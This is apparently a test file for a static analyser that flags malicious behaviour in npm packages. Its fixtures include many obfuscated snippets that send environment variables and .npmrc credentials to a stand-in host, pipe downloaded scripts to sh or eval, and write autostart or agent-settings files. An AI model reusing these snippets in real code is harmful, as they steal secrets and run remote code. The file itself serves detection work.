import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import type { ArtifactFacts } from '../../../../../server/src/model/index.js';
import { packageOf } from '../../../../support/artifacts.js';
import { printed } from '../../../../support/said.js';

const analyse = (files: Readonly<Record<string, string | Uint8Array>>): ArtifactFacts =>
  analysePackage(packageOf(files));
const analyseIndex = (code: string): ArtifactFacts => analyse({ 'index.js': code });

/** `environment>network@collect.invalid import` */
function flowsIn({ flows }: ArtifactFacts): readonly string[] {
  return flows.map(
    ({ source, sink, host, moment }) => `${source}>${sink}${host === undefined ? '' : `@${host}`} ${moment}`,
  );
}

function kindsIn({ behaviours }: ArtifactFacts): readonly string[] {
  return behaviours.map(({ kind, moment }) => `${kind} ${moment}`);
}

const SENT = ['environment>network@collect.invalid import'];

/** The same theft, each time by another way to the module, the data or the request. */
const WAYS: Readonly<Record<string, string>> = {
  'a plain request': `const https = require('https'); https.request('https://collect.invalid', { method: 'POST' }).end(JSON.stringify(process.env));`,
  'a name in pieces': `const h = require(['ht', 'tps'].join('')); h.get('https://collect.invalid/?' + JSON.stringify(process['en' + 'v']));`,
  'require under another name': `const load = require, h = load('node:https'); h.get('https://collect.invalid/' + encodeURIComponent(JSON.stringify(process.env)));`,
  'the main module': `process.mainModule.require('https').get('https://collect.invalid/' + JSON.stringify(process.env));`,
  'a built-in module of the process': `process.getBuiltinModule('https').get('https://collect.invalid/' + JSON.stringify({ ...process.env }));`,
  'a global by a computed name': `globalThis['fe' + 'tch']('https://collect.invalid', { method: 'POST', body: JSON.stringify(globalThis['process'].env) });`,
  'a constructor of a constructor': `const run = [].constructor.constructor; run('r', 'return r("https")')(require).get('https://collect.invalid/' + JSON.stringify(process.env));`,
  'Reflect and apply': `const h = require('https'); Reflect.get(h, 'get').apply(h, ['https://collect.invalid/' + JSON.stringify(process.env)]);`,
  'a comma, bind and call': `const h = require('https'); (0, h.get.bind(h)).call(null, 'https://collect.invalid/' + JSON.stringify(process.env));`,
  'destructuring with defaults': `const { get: g = null } = require('https'); const { env: e = {} } = process; g('https://collect.invalid/' + JSON.stringify(e));`,
  'entries one by one': `const a = []; for (const [k, v] of Object.entries(process.env)) a.push(k + '=' + v); fetch('https://collect.invalid', { method: 'POST', body: a.join('\\n') });`,
  'names that fit a pattern': `const o = {}; for (const k in process.env) if (/TOKEN/.test(k)) o[k] = process.env[k]; fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o) });`,
  base64: `const d = Buffer.from(JSON.stringify(process.env)).toString('base64'); fetch('https://collect.invalid/' + d);`,
  'compression and a cipher': `const z = require('zlib').gzipSync(JSON.stringify(process.env)); const c = require('crypto').createCipheriv('aes-256-cbc', k, i); fetch('https://collect.invalid', { method: 'POST', body: Buffer.concat([c.update(z), c.final()]) });`,
  promises: `Promise.resolve(process.env).then((e) => JSON.stringify(e)).then((body) => fetch('https://collect.invalid', { method: 'POST', body }));`,
  'an async function': `(async () => { const e = await (async () => process.env)(); await fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(e) }); })();`,
  'a class and a getter': `class C { #d; constructor(d) { this.#d = d; } get data() { return JSON.stringify(this.#d); } go() { return fetch('https://collect.invalid', { method: 'POST', body: this.data }); } } new C(process.env).go();`,
  'a map and a closure': `const m = new Map([['e', () => process.env]]); m.get('e') && fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(m.get('e')()) });`,
  'form data': `const f = new FormData(); f.append('e', JSON.stringify(process.env)); fetch('https://collect.invalid', { method: 'POST', body: f });`,
  'code in code': `eval(Buffer.from(${JSON.stringify(Buffer.from("require('https').get('https://collect.invalid/'+JSON.stringify(process.env))").toString('base64'))}, 'base64').toString());`,
  'a text timer': `setTimeout("require('https').get('https://collect.invalid/' + JSON.stringify(process.env))", 1);`,
  'a condition nobody knows': `if (Date.now() > 17e11 && require('os').platform() === 'linux') fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) }); else module.exports = 1;`,
  'an event that comes before': `let out = ''; const e = require('stdin-x'); e.on('end', () => fetch('https://collect.invalid', { method: 'POST', body: out })); e.on('data', () => { out += JSON.stringify(process.env); });`,
  'an awaiter of TypeScript': `var __awaiter = function (t, a, P, g) { return new Promise(function (res, rej) { function f(v) { step(g.next(v)); } function step(r) { r.done ? res(r.value) : Promise.resolve(r.value).then(f); } step((g = g.apply(t, a || [])).next()); }); }; (() => __awaiter(void 0, void 0, void 0, function* () { const e = yield Promise.resolve(process.env); yield fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(e) }); }))();`,
};

describe('what code does', () => {
  for (const [way, code] of Object.entries(WAYS)) {
    it(`is seen through ${way}`, () => {
      const flows = flowsIn(analyseIndex(code));
      assert.ok(flows.includes(SENT[0] ?? ''), flows.join('; '));
    });
  }

  for (const [way, code] of Object.entries(WAYS)) {
    it(`is seen through ${way} in a function that only users of the package call`, () => {
      const flows = flowsIn(analyseIndex(`exports.run = function () { ${code} };`));
      assert.ok(flows.includes('environment>network@collect.invalid call'), flows.join('; '));
    });
  }

  it('is seen where functions that only users call share the work, however deep', () => {
    const files = {
      'index.js': `const { collect } = require('./collect.js'); const { Sender } = require('./sender.js');
        const pack = (what) => ({ body: what });
        function prepare(from) { return pack(from()); }
        exports.run = async function run() { await new Sender('https://collect.invalid').send(prepare(collect)); };`,
      'collect.js': `const all = () => ({ ...process.env }); exports.collect = () => JSON.stringify(all());`,
      'sender.js': `class Sender { constructor(to) { this.to = to; } post(what) { return fetch(this.to, { method: 'POST', ...what }); }
        send(what) { return this.post(what); } } exports.Sender = Sender;`,
    };
    assert.deepEqual(flowsIn(analyse(files)), ['environment>network@collect.invalid call']);
  });

  it('is seen where a function that only users call decodes with another one and runs what comes out', () => {
    const payload = Buffer.from(
      `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) })`,
    );
    const numbers = [...payload].map((byte) => byte ^ 7).join(',');
    const code = `const numbers = [${numbers}]; function decode() { return numbers.map((n) => String.fromCharCode(n ^ 7)).join(''); }
      function open(text) { return (0, eval)(text); } exports.run = () => { open(decode()); };`;
    const flows = flowsIn(analyseIndex(code));
    assert.ok(flows.includes('environment>network@collect.invalid call'), flows.join('; '));
  });

  it('is seen where a caller says which file is read, which command runs or which file is written', () => {
    const code = `const fs = require('fs'), cp = require('child_process'), home = require('os').homedir();
      const read = (name) => fs.readFileSync(home + '/' + name, 'utf8'); const run = (command) => cp.execSync(command);
      const write = (name, text) => fs.appendFileSync(home + '/' + name, text);
      exports.a = () => fetch('https://collect.invalid', { method: 'POST', body: read('.npmrc') });
      exports.b = () => run('curl -s https://load.invalid/x.sh | sh'); exports.c = () => write('.bashrc', 'x &');`;
    const facts = analyseIndex(code);
    assert.deepEqual(flowsIn(facts), ['credential-file>network@collect.invalid call']);
    assert.deepEqual([...kindsIn(facts)].sort(), ['autostart call', 'download-and-run call']);
  });

  it('is no loop without an end where the condition is one that somebody else decides', () => {
    const loop = (test: string) =>
      kindsIn(analyseIndex(`const it = start(); let step; for (; ${test}; step = it.go()) use(step);`));
    assert.deepEqual(['!step.done', '!(step = it.go()).done', 'step', '!![].length'].flatMap(loop), []);
    assert.deepEqual(
      ['true', '!0', '!![]', '1'].flatMap(loop),
      Array.from({ length: 4 }, () => 'endless-loop import'),
    );
  });

  it('is seen where the platform itself is handed what arrives', () => {
    const code = `fetch('https://load.invalid/x').then((answer) => answer.text()).then(eval);`;
    assert.deepEqual(flowsIn(analyseIndex(code)), ['downloaded>evaluated import']);
  });

  it('is seen behind more work than is allowed, which is said where that runs by itself', () => {
    const theft = `const table = []; for (let i = 0; i < 1e8; i++) table[i & 255] = i;
      fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
    const [unasked, called] = [theft, `exports.run = () => { ${theft} };`].map(analyseIndex);
    assert.ok(unasked !== undefined && called !== undefined);
    assert.deepEqual([unasked, called].flatMap(flowsIn), [...SENT, 'environment>network@collect.invalid call']);
    assert.deepEqual(
      [unasked, called].map(({ incomplete }) => incomplete.map(({ reason }) => printed(reason))),
      [['takes more work to follow than is allowed'], []],
    );
  });

  it('is told with the dead drop that an address comes from, and without one where a caller gives it', () => {
    const drop = `const { Contract } = require('some-chain'); (async () => { const url = await new Contract('0x1').read(); eval(await (await fetch(url)).text()); })();`;
    const loader = `exports.load = (url) => fetch(url).then((answer) => answer.text()).then((text) => eval(text));`;
    assert.deepEqual(
      [drop, loader].map((code) => analyseIndex(code).flows.map(({ source, detail }) => `${source} ${detail ?? ''}`)),
      [['downloaded some-chain.Contract().read()'], ['downloaded ']],
    );
  });

  it('is followed to its end past recursion over what is not known, and past generators that never end', () => {
    const theft = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
    const code = `const fs = require('fs'), path = require('path');
      function clear(dir) { for (const one of fs.readdirSync(dir)) { const at = path.join(dir, one);
        if (fs.statSync(at).isDirectory()) clear(at); else if (at.length > 3) clear(dir + '/x'); } }
      clear('/tmp/a'); function* colours() { while (true) for (const one of ['red', 'blue']) yield one; }
      colours().next().value.trim(); ${theft}`;
    const facts = analyseIndex(code);
    assert.deepEqual(flowsIn(facts), SENT);
    assert.deepEqual(facts.incomplete, []);
  });

  it('is followed where things are called like the parts that every object has', () => {
    const facts = analyseIndex(
      `const c = require('constructor'); exports.run = (x) => c.name.toString(x).valueOf.hasOwnProperty;`,
    );
    assert.deepEqual(facts.incomplete, []);
  });

  it('is seen where it is put together out of several files, of either kind of module', () => {
    const files = {
      'package.json': JSON.stringify({ main: './lib/index.mjs', imports: { '#out': './lib/out.cjs' } }),
      'lib/index.mjs': `export * from './glue.mjs';`,
      'lib/glue.mjs': `import out from '#out'; import * as data from './data.mjs'; out.send(data.host.join('.'), data.take());`,
      'lib/data.mjs': `export const host = ['collect', 'invalid']; export const take = () => process.env;`,
      'lib/out.cjs': `const t = require('https'); exports.send = (h, d) => t.request({ hostname: h }).end(JSON.stringify(d));`,
    };
    assert.deepEqual(flowsIn(analyse(files)), SENT);
  });

  it('is seen through types', () => {
    const code = `interface Sent { readonly body: string }
enum Verb { Post = 'POST' }
export async function send<T extends object>(data: T): Promise<void> {
  await fetch('https://collect.invalid' as string, { method: Verb.Post, body: JSON.stringify(data) } satisfies Sent & { method: string });
}
void send(process.env!);`;
    const facts = analyse({ 'package.json': '{"main":"index.ts"}', 'index.ts': code });
    assert.deepEqual(flowsIn(facts), SENT);
    assert.deepEqual([facts.flows[0]?.to.line, facts.flows[0]?.to.column], [4, 9]);
    assert.deepEqual([facts.flows[0]?.from.line, facts.flows[0]?.from.column], [6, 11]);
  });

  it('tells when it happens', () => {
    const send = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) })`;
    const files = {
      'package.json': JSON.stringify({
        scripts: { postinstall: 'npm run setup', setup: 'node scripts/setup' },
        bin: { x: 'cli.js' },
      }),
      'scripts/setup.js': `${send};`,
      'index.js': `${send};`,
      'cli.js': `${send};`,
      'later.js': `exports.f = () => ${send};`,
    };
    const moments = analyse(files).flows.map(({ to, moment }) => `${to.file} ${moment}`);
    assert.deepEqual(moments, ['scripts/setup.js install', 'index.js import', 'cli.js command', 'later.js call']);
  });

  it('is nothing where data stays, is digested, or goes to the machine itself', () => {
    for (const code of [
      `module.exports = JSON.stringify(process.env);`,
      `require('child_process').spawn('ls', [], { env: process.env });`,
      `fetch('https://telemetry.example', { method: 'POST', body: require('crypto').createHash('sha256').update(require('os').hostname()).digest('hex') });`,
      `fetch('http://localhost:9229/json', { method: 'POST', body: JSON.stringify(process.env) });`,
      `const level = process.env.LOG_LEVEL; fetch('https://api.example/' + level);`,
    ]) {
      assert.deepEqual(flowsIn(analyseIndex(code)), [], code);
    }
  });

  it('names the encodings that a constant went through before it runs', () => {
    const hidden = [...Buffer.from('require("child_process").exec("id")')].map((byte) => byte ^ 7);
    const facts = analyseIndex(
      `new Function('require', ${JSON.stringify(hidden)}.map((c) => String.fromCharCode(c ^ 7)).join(''))(require);`,
    );
    assert.deepEqual(
      facts.flows.map(({ source, sink, via }) => [source, sink, via.includes('charcode')]),
      [['decoded', 'evaluated', true]],
    );
  });

  it('follows what is downloaded into whatever runs it', () => {
    const got = `const h = require('https'), fs = require('fs'), cp = require('child_process'); h.get('https://cdn.invalid/p', (r) => { let d = ''; r.on('data', (c) => { d += c; }).on('end', () => {`;
    for (const [run, flow] of [
      ['eval(d)', 'downloaded>evaluated import'],
      ['require("vm").runInThisContext(d)', 'downloaded>evaluated import'],
      ['module._compile(d, "x")', 'downloaded>evaluated import'],
      ['cp.exec(d)', 'downloaded>run-as-command import'],
      ['fs.writeFileSync("/tmp/p", d); cp.execFile("/tmp/p")', 'downloaded>written-and-run import'],
      ['fs.writeFileSync("/tmp/p.js", d); require("/tmp/p.js")', 'downloaded>loaded-as-module import'],
      ['import("data:text/javascript," + d)', 'downloaded>evaluated import'],
      ['import(`data:text/javascript;base64,${d.split("").reverse().join("")}`)', 'downloaded>evaluated import'],
      ['new (require("worker_threads").Worker)(d, { eval: true })', 'downloaded>evaluated import'],
    ] as const) {
      assert.deepEqual(flowsIn(analyseIndex(`${got} ${run}; }); });`)), [flow], run);
    }
  });

  it('takes the settings of a project for its own, whatever says where it is, unless they were written there', () => {
    const run = (then: string): readonly string[] =>
      flowsIn(
        analyseIndex(
          `const h = require('https'), fs = require('fs'), path = require('path'); h.get('https://cdn.invalid/p', (r) => { let d = ''; r.on('data', (c) => { d += c; }).on('end', () => {
          const at = (name) => path.join(process.cwd(), JSON.parse(d).folder, name); ${then} }); });`,
        ),
      );
    assert.deepEqual(run(`require(at('some.config.js'))`), []);
    for (const then of [
      `require(at('some.js'))`,
      `require(at(d))`,
      `fs.writeFileSync(at('some.config.js'), d); require(at('some.config.js'))`,
    ])
      assert.deepEqual(run(then), ['downloaded>loaded-as-module import'], then);
  });

  it('turns the tables of an obfuscator until they fit', () => {
    const code = `(function(a,b){const c=_0x2;const d=a();while(!![]){try{const e=parseInt(c(0x1))/0x1+-parseInt(c(0x2))/0x2;if(e===b)break;else d['push'](d['shift']());}catch(f){d['push'](d['shift']());}}}(_0x1,0x5));function _0x1(){const g=['10x','https://collect.invalid','stringify','15x','20x'];_0x1=function(){return g;};return _0x1();}function _0x2(h,i){return _0x1()[h];}fetch(_0x2(0x4),{'method':'POST','body':JSON[_0x2(0x0)](process['env'])});`;
    const facts = analyseIndex(code);
    assert.deepEqual(flowsIn(facts), ['environment>network@collect.invalid import']);
    assert.deepEqual(kindsIn(facts), ['obfuscated import']);
  });

  it('sees keys leave a function that they are given to, and not what is signed with them', () => {
    const stolen = `exports.Wallet = class { static fromSeed(s) { fetch('https://k.invalid', { headers: { 'x-id': s } }); return new this(); } };`;
    const signed = `const n = require('tweetnacl'); exports.sign = (secretKey, m) => fetch('https://k.invalid', { method: 'POST', body: n.sign(m, secretKey) });`;
    assert.deepEqual(flowsIn(analyseIndex(stolen)), ['key-material>network@k.invalid call']);
    assert.deepEqual(flowsIn(analyseIndex(signed)), []);
  });

  it('tells what is written where the system, an assistant or a neighbour looks', () => {
    const write = (folder: string, file: string) =>
      kindsIn(
        analyse({
          'package.json': '{"scripts":{"install":"node i.js"}}',
          'i.js': `require('fs').writeFileSync(require('path').join(${folder}, '${file}'), x);`,
        }),
      );
    assert.deepEqual(write(`require('os').homedir()`, '.config/systemd/user/a.service'), ['autostart install']);
    assert.deepEqual(write('process.env.INIT_CWD', '.claude/settings.json'), ['agent-configuration install']);
    assert.deepEqual(write('process.cwd()', '../ethers/lib/index.js'), ['other-package-changed install']);
    assert.deepEqual(write('__dirname', 'build/binding.json'), []);
  });

  it('tells loops without an end, and lets every other one be', () => {
    assert.deepEqual(kindsIn(analyseIndex(`for(let e=666;e<1/0;e++)console.log(e)`)), ['endless-loop import']);
    assert.deepEqual(kindsIn(analyseIndex(`for(let e=6;e<1/2;e++)console.log(e)`)), []);
    assert.deepEqual(kindsIn(analyseIndex(`for (let i = 666; i < Infinity; i++) console.log(i);`)), [
      'endless-loop import',
    ]);
    assert.deepEqual(kindsIn(analyseIndex(`while (true) { console.log('LIBERTY'); }`)), ['endless-loop import']);
    for (const code of [
      `for (;;) { if (x()) break; }`,
      `while (1) { if (a) return; }`,
      `(async () => { for (;;) await y(); })();`,
    ]) {
      assert.deepEqual(kindsIn(analyseIndex(`function f() { ${code} } f();`)), [], code);
    }
  });

  it('says so where it gives up, or where what runs is no JavaScript', () => {
    const endless = analyseIndex(`let n = 0; for (let i = 0; i < 1e12; i++) n += i; require('https').get(n);`);
    assert.deepEqual(printed(endless.incomplete), [
      { file: 'index.js', reason: 'takes more work to follow than is allowed' },
    ]);
    const broken = analyse({ 'index.js': 'require("https").get(', 'templates/a.js': 'import {{name}} from "https"' });
    assert.deepEqual(
      broken.incomplete.map(({ file }) => file),
      ['index.js'],
    );
    const deep = analyseIndex(`x = ${'['.repeat(20_000)}${']'.repeat(20_000)}`);
    assert.equal(deep.incomplete.length, 1);
  });

  it('finds the same with the gate off', () => {
    for (const code of Object.values(WAYS)) {
      const files = packageOf({ 'index.js': code, 'lib/plain.js': 'exports.add = (a, b) => a + b;' });
      assert.deepEqual(analysePackage(files, { gate: false }), analysePackage(files));
    }
  });
});

describe('analysePackage, group by group', () => {
  const COLLECT = `module.exports = () => JSON.stringify(process.env);`;
  const SEND = (from: string): string =>
    `const collect = ${from}; fetch('https://collect.invalid', { method: 'POST', body: collect() });`;

  it('follows a module that is found by a name nobody can know beforehand, before and after its own turn', () => {
    const files = { 'lib/collect.js': COLLECT, 'package.json': '{"main":"index.js","bin":"z.js"}' };
    const late = SEND(`require('./lib/' + ['coll', 'ect'].join(''))`);
    assert.deepEqual(flowsIn(analyse({ ...files, 'index.js': late })), SENT);
    assert.deepEqual(
      flowsIn(analyse({ ...files, 'lib/a.js': '', 'index.js': `require('./lib/collect')`, 'z.js': late })),
      ['environment>network@collect.invalid command'],
    );
  });

  it('keeps what one group leaves on the global object for another', () => {
    const artifact = analyse({
      'package.json': '{"main":"a.js","bin":"b.js"}',
      'a.js': `globalThis.collected = JSON.stringify(process.env);`,
      'b.js': `fetch('https://collect.invalid', { method: 'POST', body: globalThis.collected });`,
    });
    assert.deepEqual(flowsIn(artifact), ['environment>network@collect.invalid command']);
  });

  it('says that something runs at install where an import would run it too', () => {
    const artifact = analyse({
      'package.json': '{"main":"a.js","scripts":{"postinstall":"node b.js"}}',
      'a.js': SEND(`require('./c')`),
      'b.js': `require('./a')`,
      'c.js': COLLECT,
    });
    assert.deepEqual(flowsIn(artifact), ['environment>network@collect.invalid install']);
  });

  it('is followed through `this` in methods that a compiler has split up', () => {
    const spread = `var wait = (self, given, run) => new Promise((done, failed) => {
        var next = (value) => { try { step(run.next(value)); } catch (e) { failed(e); } };
        var step = (x) => (x.done ? done(x.value) : Promise.resolve(x.value).then(next));
        step((run = run.apply(self, given)).next()); });`;
    const method = (body: string): readonly string[] =>
      flowsIn(
        analyseIndex(`${spread} exports.Client = class { start() { return wait(this, null, function* () { ${body} }); }
          send(data) { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(data) }); } };`),
      );
    assert.deepEqual(method('this.send(process.env);'), ['environment>network@collect.invalid call']);
    assert.deepEqual(method('this.send(process.version);'), []);
  });
});
